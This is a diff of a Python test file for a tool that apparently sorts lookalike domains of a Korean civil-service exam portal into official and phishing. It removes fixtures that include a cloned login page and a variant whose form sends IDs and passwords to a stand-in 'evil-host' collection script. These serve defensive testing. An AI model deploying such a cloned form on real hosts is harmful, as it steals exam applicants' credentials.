@@ -7,89 +7,13 @@ a host that does not answer. The page evidence must change the verdicts as issue
 from __future__ import annotations
 
 import csv
-import socket
-import threading
-from collections.abc import Iterator
 from pathlib import Path
 
-import pytest
 from typer.testing import CliRunner
 
 from insa.cli import app
 
 DATA = Path(__file__).parent / "data"
-
-OFFICIAL = """<!doctype html><html lang="ko"><head><title>사이버국가고시센터</title></head><body>
-<header><nav><a href="/">홈</a><a href="/exam">시험정보</a><a href="/apply">원서접수</a><a href="/result">합격자발표</a></nav></header>
-<main><h1>사이버국가고시센터 로그인</h1>
-<p>국가공무원 공개경쟁채용시험 원서접수와 응시표 출력, 합격자 확인은 로그인한 뒤 이용할 수 있습니다. 인사혁신처가 운영합니다.</p>
-<form action="/login" method="post"><label>아이디 <input name="userId"></label>
-<label>비밀번호 <input type="password" name="userPw"></label><button>로그인</button></form>
-<section><h2>공지사항</h2><ul><li>2026년도 국가공무원 7급 공개경쟁채용시험 시행계획 공고</li>
-<li>2026년도 국가공무원 9급 공개경쟁채용시험 원서접수 안내</li><li>응시자 유의사항과 시험장 안내</li>
-<li>장애인 응시자 편의지원 신청 안내</li><li>자주 묻는 질문과 상담 전화 안내</li></ul></section></main>
-<footer>인사혁신처 세종특별자치시 한누리대로 499 사이버국가고시센터 문의 1234-5678</footer></body></html>"""
-OFFSITE = OFFICIAL.replace('action="/login"', 'action="http://collect.evil-host.example/steal.php"')
-ACADEMY = """<html><head><title>합격 고시학원</title></head><body><h1>합격 고시학원 7급 9급 공무원 대비반</h1>
-<p>서울 노량진 학원가에서 20년 동안 공무원 수험생을 가르쳐 온 학원입니다. 국어 영어 한국사 행정법 행정학 강의를
-실강과 온라인으로 제공합니다. 수강 신청은 전화로 받습니다. 모의고사와 면접 대비반, 자습실과 상담실을 운영하며
-교재와 강의 일정은 공지사항에서 확인하세요. 오시는 길 지하철 1호선 노량진역 3번 출구 도보 5분.</p></body></html>"""
-PARKED = "<html><head><title>gosi.net</title></head><body>This domain is for sale. Buy this domain today.</body></html>"
-SITES: dict[str, tuple[int, str, str]] = {  # host/path → status, location, body
-    "www.gosi.kr/": (200, "", OFFICIAL),
-    "gosi-kr.com/": (200, "", OFFICIAL),
-    "gosi-exam.net/": (200, "", OFFSITE),
-    "gosi.co.kr/": (200, "", ACADEMY),
-    "gosi.net/": (200, "", PARKED),
-    "g0si.kr/": (302, "http://login-gosi.top/a", ""),
-    "login-gosi.top/a": (302, "/b", ""),
-    "login-gosi.top/b": (200, "", OFFICIAL),
-    "goshi-info.com/": (200, "", OFFICIAL.replace("1234-5678", "010-0000-0000")),
-}
-
-
-@pytest.fixture
-def proxy() -> Iterator[str]:
-    server = socket.socket()
-    server.bind(("127.0.0.1", 0))
-    server.listen(32)
-    port = server.getsockname()[1]
-    stop = threading.Event()
-
-    def handle(conn: socket.socket) -> None:
-        with conn:
-            data = b""
-            while b"\r\n\r\n" not in data:
-                chunk = conn.recv(65536)
-                if not chunk:
-                    return
-                data += chunk
-            line = data.split(b"\r\n", 1)[0].decode()
-            method, target, _ = line.split(" ", 2)
-            if method == "CONNECT":  # no tunnels: https falls back to http
-                conn.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
-                return
-            key = target.split("://", 1)[1]
-            status, location, body = SITES.get(key, (502, "", ""))
-            raw = body.encode()
-            head = f"HTTP/1.1 {status} X\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(raw)}\r\nConnection: close\r\n"
-            if location:
-                head += f"Location: {location}\r\n"
-            conn.sendall(head.encode() + b"\r\n" + raw)
-
-    def loop() -> None:
-        server.settimeout(0.2)
-        while not stop.is_set():
-            try:
-                conn, _ = server.accept()
-            except TimeoutError:
-                continue
-            threading.Thread(target=handle, args=(conn,), daemon=True).start()
-
-    threading.Thread(target=loop, daemon=True).start()
-    yield f"http://127.0.0.1:{port}"
-    stop.set()
-    server.close()
 
 
 def test_page_evidence_changes_the_verdicts(tmp_path: Path, proxy: str) -> None:
